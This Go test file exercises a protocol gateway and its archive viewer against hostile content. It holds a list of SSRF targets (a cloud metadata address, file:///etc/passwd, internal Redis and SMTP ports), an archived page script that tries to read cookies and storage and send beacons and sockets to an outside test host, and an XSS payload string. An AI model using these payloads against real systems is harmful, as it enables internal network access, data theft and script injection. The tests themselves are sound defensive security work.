package gateway

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"testing"

	"github.com/anyurl/fetch/internal/test/browsertest"
	"github.com/anyurl/fetch/internal/test/peer"
)

// privateTargets are URLs that a page of a public server must not reach. %s is
// the address of the gateway.
var privateTargets = []string{
	"gopher://127.0.0.1/I/p1", "gopher://localhost/I/p2", "gopher://[::1]/I/p3", "gopher://10.0.0.1/I/p4", "gopher://192.168.1.1:7070/I/p5",
	"gopher://169.254.169.254/I/p6", "gopher://[fe80::1]/I/p7", "gopher://[::ffff:127.0.0.1]/I/p8", "gopher://0.0.0.0/I/p9",
	"gopher://2130706433/I/p10", "gopher://foreign.localhost/I/p11", "gopher://1.2.3.4:25/I/p12", "gopher://1.2.3.4:6379/I/p13",
	"ftp://172.16.0.1/p14", "http://127.0.0.1/p15", "http://%s/p16", "gopher://%s/I/p17", "http://100.64.0.1/p18",
	"gopher://[64:ff9b::7f00:1]/I/p19", "news://10.0.0.1/p20@x", "wais://10.0.0.1/p21", "file:///etc/passwd?p22", "imap://10.0.0.1/p23",
	"prospero://10.0.0.1/p24", "gopher://168.63.129.16/I/p25",
}

// TestHostileServer opens a page of a public gopher server whose images, frames
// and links name private addresses. The control is an image on another public
// server.
func TestHostileServer(t *testing.T) {
	t.Parallel()
	gopher := peer.Gophernicus(t, peer.GophernicusOptions{Args: []string{"-nh"}})
	gopher.Put("pixel.gif", []byte(image))
	v := startVictim(t, gopher.Addr, nil)
	var page, menu strings.Builder
	page.WriteString("<!DOCTYPE html><html><head><title>hostile</title></head><body><p>page</p>")
	fmt.Fprintf(&page, "<img id=own src=/I/pixel.gif><img id=other src=\"gopher://%s/I/pixel.gif\">", otherHost)
	for i, target := range privateTargets {
		target = strings.ReplaceAll(target, "%s", v.address)
		fmt.Fprintf(&page, "<img src=\"%s\"><iframe src=\"%s-frame\"></iframe>", target, target)
		fmt.Fprintf(&menu, "hTarget %d\tURL:%s\t%s\t70\n", i, target, hostileHost)
	}
	fmt.Fprintf(&menu, "IImage\t/I/p30\t10.0.0.1\t70\n0Mail\t/p31\t127.0.0.1\t25\n7Search\t/p32\tlocalhost\t70\nhImage\tURL:http://10.0.0.1/p33.gif\t10.0.0.1\t70\n")
	gopher.Put("evil.html", []byte(page.String()))
	gopher.Put("menu/gophermap", []byte(menu.String()))
	b := browsertest.Start(t, v.address)

	p := b.Open(v.base + "/live/gopher://" + hostileHost + "/h/evil.html")
	p.Wait("document.querySelector('#own').naturalWidth == 1 && document.querySelector('#other').naturalWidth == 1")
	p.Wait("document.readyState == 'complete'")
	embedded := v.requests.find(";inline")
	for _, line := range embedded {
		if control := strings.Contains(line, "/pixel.gif"); control != strings.HasSuffix(line, " 200") {
			t.Errorf("embedded: %s", line)
		}
	}
	if len(embedded) < len(privateTargets) {
		t.Errorf("only %d embedded objects were requested: %q", len(embedded), embedded)
	}

	p.Go(v.base + "/live/gopher://" + hostileHost + "/1/menu")
	p.Wait("document.querySelectorAll('tbody a').length > 5")
	if got := p.Eval("document.images.length"); got != "0" {
		t.Errorf("the menu embeds %s images", got)
	}
	links := strings.Fields(p.Eval("Array.from(document.querySelectorAll('tbody a'), a => a.getAttribute('href')).join(' ')"))
	signed := regexp.MustCompile(`^/live;via=[A-Za-z0-9_-]+/`)
	for _, link := range links {
		if strings.HasPrefix(link, "/") && !signed.MatchString(link) {
			t.Errorf("link without a signature: %s", link)
		}
	}
	v.requests.clear()
	followed := 0
	for i := 0; i < len(links); i += 8 { // the embedded objects cover all targets
		p.Go(v.base + "/live/gopher://" + hostileHost + "/1/menu")
		href := p.Eval(fmt.Sprintf("document.querySelectorAll('tbody a')[%d].href", i))
		if !strings.HasPrefix(href, v.base) {
			continue // a link that leaves the gateway
		}
		p.Click(fmt.Sprintf("document.querySelectorAll('tbody a')[%d]", i), "!document.querySelector('table') && document.querySelector('h1') != null")
		followed++
	}
	for _, line := range v.requests.find(";via=") {
		if !strings.HasSuffix(line, " 403") && !strings.HasSuffix(line, " 400") {
			t.Errorf("followed: %s", line)
		}
	}
	if got := len(v.requests.find(" same-origin 40")); got != followed || followed < 3 {
		t.Errorf("%d of %d links were followed: %q", got, followed, v.requests.all())
	}
	for _, addr := range v.dials.all() {
		if addr != hostileHost+":70" && addr != otherHost+":70" {
			t.Errorf("connection to %s", addr)
		}
	}
	if len(v.dials.find(otherHost)) == 0 {
		t.Error("control: no connection to another public server")
	}
}

// archivedAttack is an archived page with a script that tries to reach the
// interface, live pages, other captures and the server at %[1]s.
const archivedAttack = `<!DOCTYPE html><html><head><title>archived</title></head><body><p id=text>text</p>
<iframe id=frame src="http://a.example/two?q=1"></iframe><form id=post method=post target=in action="/"><input name=url value="gopher://1.2.3.4/0/post"></form>
<iframe name=in></iframe><script>
const results = {}
const attempt = (name, f) => { try { results[name] = String(f()) } catch (e) { results[name] = 'blocked' } }
const read = (name, url, options) => fetch(url, options).then(r => r.text()).then(t => { results[name] = 'read ' + t.length }, () => { results[name] = 'blocked' })
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length)
attempt('parent', () => parent.document.title + opener.document.title)
attempt('frame', () => document.querySelector('#frame').contentDocument.title)
const worker = new Promise(done => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => done('ran'); w.onerror = () => done('blocked') })
attempt('popup', () => window.open('/').document.title)
attempt('cookies', () => { document.cookie = 'a=b'; return document.cookie })
attempt('post', () => { const f = document.createElement('form'); f.method = 'post'; f.target = 'in'; f.action = location.protocol + '//' + location.host + '/?post'; document.body.append(f); f.submit(); return 'sent' })
for (const u of ['/live/gopher://1.2.3.4/0/image', '/raw/gopher://1.2.3.4/I/image', '//%[1]s/image', '/?image']) { const i = new Image; i.src = new URL(u, 'http://' + location.host); }
attempt('socket', () => { new WebSocket('ws://%[1]s/socket'); return 'opened' })
attempt('beacon', () => navigator.sendBeacon('http://%[1]s/beacon', 'x'))
const base = 'http://' + location.host
Promise.all([read('home', base + '/'), read('overview', base + '/archive/a/'), read('capture', base + '/archive/a/2024id_/http://a.example/two?q=1'),
	read('live', base + '/live/gopher://1.2.3.4/0/fetch'), read('raw', base + '/raw/gopher://1.2.3.4/0/fetch'), read('posted', base + '/', {method: 'POST', body: 'url=gopher://1.2.3.4/'}),
	read('outside', 'http://%[1]s/fetch'), read('outside2', 'http://%[1]s/fetch', {mode: 'no-cors'}),
	worker.catch(() => 'blocked').then(result => { results.worker = result }),
	(async () => navigator.serviceWorker.register(base + '/archive/a/2024id_/http://a.example/app.js'))().then(() => { results.service = 'registered' }, () => { results.service = 'blocked' })])
	.then(() => { document.title = JSON.stringify(results) })
</script></body></html>`

// TestArchivedScript opens an archived page with a hostile script. The control is
// the same page on a server without protection. The script does not run at all.
func TestArchivedScript(t *testing.T) {
	t.Parallel()
	outside, requests := countingServer(t)
	page := fmt.Sprintf(archivedAttack, outside)
	unprotected := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/attack" {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, strings.Replace(page, `src="http://a.example/two?q=1"`, `src="/two"`, 1)) // a frame of the same origin
			return
		}
		fmt.Fprint(w, "open")
	}))
	defer unprotected.Close()
	v := startVictim(t, "", func(o *Options) {
		o.Archives = []Archive{{Name: "a", Source: openSample(t, sample{"20240101", "http://a.example/attack", "", ok("text/html", page)})}}
	})
	b := browsertest.Start(t, outside, strings.TrimPrefix(unprotected.URL, "http://"), v.address)
	archived := b.Open(v.base + "/archive/a/2024/http://a.example/attack")
	archived.Wait("document.readyState == 'complete'")
	if got := archived.Eval("document.title"); got != "archived" {
		t.Errorf("the script ran: %s", got)
	}
	if got := v.dials.all(); len(got) > 0 {
		t.Errorf("connections of the gateway: %q", got)
	}
	if got := requests(); len(got) > 0 {
		t.Errorf("requests to another server: %q", got)
	}
	p := b.Open(unprotected.URL + "/attack")
	p.Wait("document.title.startsWith('{')")
	got := p.Eval("document.title")
	for _, name := range []string{"cookie", "storage", "frame", "worker", "popup", "home", "overview", "capture", "live", "raw", "posted"} {
		if strings.Contains(got, fmt.Sprintf("%q:%q", name, "blocked")) {
			t.Errorf("control: %s is blocked: %s", name, got)
		}
	}
	waitUntil(t, func() bool { return len(requests()) > 0 })
}

// hostileText is a text that runs a script if a page contains it unescaped.
const hostileText = `<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'">&amp;`

// TestHostileNames opens live pages with markup in file names, header fields,
// subjects and menu lines. The control is a page with the same text unescaped.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	gopher := peer.Gophernicus(t, peer.GophernicusOptions{Args: []string{"-nh"}})
	gopher.Put("gophermap", []byte("i"+hostileText+"\tx\terror.host\t1\n0"+hostileText+"\t/0/"+hostileText+"\t1.2.3.4\t70\nh"+hostileText+"\tURL:javascript:window.pwned=1\t1.2.3.4\t70\n"))
	gopher.Put("text.txt", []byte(hostileText+"\n"))
	ftp := peer.Vsftpd(t, peer.FTPOptions{})
	name := strings.ReplaceAll(hostileText, "/", "|")
	ftp.Put("pub/"+name, []byte("x"))
	ftp.Put("pub/"+name+"dir/file.txt", []byte("x"))
	news := peer.INN(t, peer.INNOptions{})
	news.Feed("Path: test!not-for-mail\r\nFrom: \"" + strings.ReplaceAll(hostileText, `"`, "'") + "\" <j@example.org>\r\nNewsgroups: local.test\r\nSubject: " + hostileText + "\r\n" +
		"Date: Mon, 01 Jan 2024 00:00:00 GMT\r\nMessage-ID: <evil@example.org>\r\nOrganization: " + hostileText + "\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n" + hostileText + "\r\n--b\r\nContent-Type: text/html\r\n" +
		"Content-Disposition: attachment; filename=\"" + strings.ReplaceAll(hostileText, `"`, `\"`) + "\"\r\n\r\n" + hostileText + "\r\n--b--\r\n")
	control := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!DOCTYPE html><title>control</title>"+hostileText)
	}))
	defer control.Close()
	l := startLive(t, nil)
	base := "http://" + l.Addr().String()
	b := browsertest.Start(t, l.Addr().String(), strings.TrimPrefix(control.URL, "http://"))
	p := b.Open(control.URL)
	p.Wait("window.pwned == 1")
	for _, url := range []string{
		"gopher://" + gopher.Addr + "/1/", "gopher://" + gopher.Addr + "/0/text.txt", "ftp://" + ftp.Addr + "/pub/",
		"news://" + news.Addr + "/local.test", "news://" + news.Addr + "/evil@example.org",
	} {
		p.Go(base + "/live/" + url)
		p.Wait("document.body.textContent.includes('window.pwned=1')")
		const inert = "[window.pwned, document.scripts.length, document.images.length, document.querySelectorAll('[onerror],a[href^=javascript]').length].join(' ')"
		if got := p.Eval(inert); got != " 0 0 0" {
			t.Errorf("%s: pwned, scripts, images and handlers: %s", url, got)
		}
	}
	p.Go(base + "/live/ftp://" + ftp.Addr + "/pub/")
	p.Click("Array.from(document.querySelectorAll('tbody a')).find(a => a.textContent.includes('dir'))",
		"document.title.includes('<img src=x') && document.body.textContent.includes('file.txt')")
	if got := p.Eval("String(window.pwned) + document.scripts.length + document.images.length"); got != "undefined00" {
		t.Errorf("folder with markup in its name: %s", got)
	}
}
